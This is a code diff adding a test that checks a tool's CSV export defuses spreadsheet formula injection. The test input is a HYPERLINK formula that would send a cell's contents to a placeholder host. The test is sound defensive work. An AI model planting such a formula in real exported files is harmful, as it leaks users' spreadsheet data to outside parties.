@@ -110,3 +110,14 @@ def test_the_reader_without_a_terminal_says_so_and_exits_2():
                          stdin=subprocess.DEVNULL, timeout=30)
     assert run.returncode == 2
     assert run.stderr == "parallax needs a terminal; use `parallax export` for scripts\n"
+
+
+def test_csv_cells_never_open_a_spreadsheet_formula():
+    from tui.core.compare import compare
+    from tui.core.export import csv_chunks
+
+    from .corpus import articles_from
+
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click") the council met on the budget.'
+    text = "".join(csv_chunks(compare(articles_from(formula, formula))))
+    assert "'=HYPERLINK" in text and ',"=' not in text and "\n=" not in text
